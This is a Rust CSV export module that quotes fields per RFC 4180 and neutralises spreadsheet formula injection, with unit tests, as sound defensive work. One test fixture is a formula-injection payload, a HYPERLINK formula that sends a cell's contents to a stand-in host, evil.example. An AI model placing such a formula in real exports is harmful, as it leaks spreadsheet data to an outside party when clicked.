//! CSV for exports: RFC 4180 records, safe to open in a spreadsheet.
//!
//! - Records end with CRLF; a field holding a comma, a double quote, CR or LF is enclosed in
//!   double quotes, with each double quote doubled (RFC 4180 §2).
//! - Spreadsheet formula injection (OWASP, "CSV Injection"): a field starting with `=`, `+`,
//!   `-`, `@`, TAB or CR would be read by Excel, LibreOffice or Google Sheets as a formula
//!   (`=HYPERLINK(…)` sends a click to another site), so it gets a leading `'`, which they
//!   show as text. Display names, nicknames and emails are typed by people, so every field is
//!   treated this way, whatever its column.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a field as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` as a spreadsheet shows it literally: with a leading `'` when it would start a
/// formula.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if value.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// Appends one field (neutralised, then quoted when it must be).
fn field(out: &mut String, value: &str) {
    let value = neutralise(value);
    if value.contains([',', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&value);
    }
}

/// Appends one record: the fields separated by commas, ended with CRLF.
pub fn record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        field(out, f.as_ref());
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(fields: &[&str]) -> String {
        let mut out = String::new();
        record(&mut out, fields);
        out
    }

    #[test]
    fn plain_fields_are_left_alone() {
        assert_eq!(line(&["alice", "Alice Example", "3", ""]), "alice,Alice Example,3,\r\n");
        assert_eq!(line(&[]), "\r\n");
        assert_eq!(line(&["Zoë 李"]), "Zoë 李\r\n");
    }

    #[test]
    fn rfc_4180_quoting() {
        assert_eq!(line(&["a,b"]), "\"a,b\"\r\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(line(&["two\nlines"]), "\"two\nlines\"\r\n");
        assert_eq!(line(&["cr\rhere"]), "\"cr\rhere\"\r\n");
        assert_eq!(line(&["Smith, \"Jo\"\r\nJr", "x"]), "\"Smith, \"\"Jo\"\"\r\nJr\",x\r\n");
    }

    #[test]
    fn formulas_are_neutralised() {
        for (raw, shown) in [
            ("=1+2", "'=1+2"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(raw), shown, "{raw:?}");
        }
        assert_eq!(line(&["\rx"]), "\"'\rx\"\r\n", "neutralised, then quoted");
        assert_eq!(
            line(&["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"]),
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n"
        );
    }

    /// The audit download's cases (issue 10), kept with the one writer.
    mod audit_cases {
        fn record(cells: &[&str]) -> String {
            let mut out = String::new();
            super::record(&mut out, cells);
            out
        }

        #[test]
        fn plain_fields_are_left_alone() {
            assert_eq!(record(&["1", "user.create", "ann", ""]), "1,user.create,ann,\r\n");
            assert_eq!(record(&[]), "\r\n");
        }

        #[test]
        fn fields_with_separators_or_quotes_are_quoted_rfc_4180() {
            assert_eq!(record(&["a,b"]), "\"a,b\"\r\n");
            assert_eq!(record(&["say \"hi\""]), "\"say \"\"hi\"\"\"\r\n");
            assert_eq!(record(&["two\nlines", "cr\rhere"]), "\"two\nlines\",\"cr\rhere\"\r\n");
            assert_eq!(
                record(&["{\"nickname\":\"a,b\"}"]),
                "\"{\"\"nickname\"\":\"\"a,b\"\"}\"\r\n"
            );
        }

        #[test]
        fn formula_starts_are_neutralised() {
            for start in ["=", "+", "-", "@", "\t"] {
                assert_eq!(
                    record(&[&format!("{start}1+1")]),
                    format!("'{start}1+1\r\n"),
                    "{start:?}"
                );
            }
            assert_eq!(record(&["\r1"]), "\"'\r1\"\r\n", "CR also forces quotes");
            assert_eq!(
                record(&["=HYPERLINK(\"http://x\",\"y\")"]),
                "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\n"
            );
            // Only at the start: inside a field these are plain text.
            assert_eq!(record(&["a=b", "x-y", "me@example.com"]), "a=b,x-y,me@example.com\r\n");
        }
    }
}
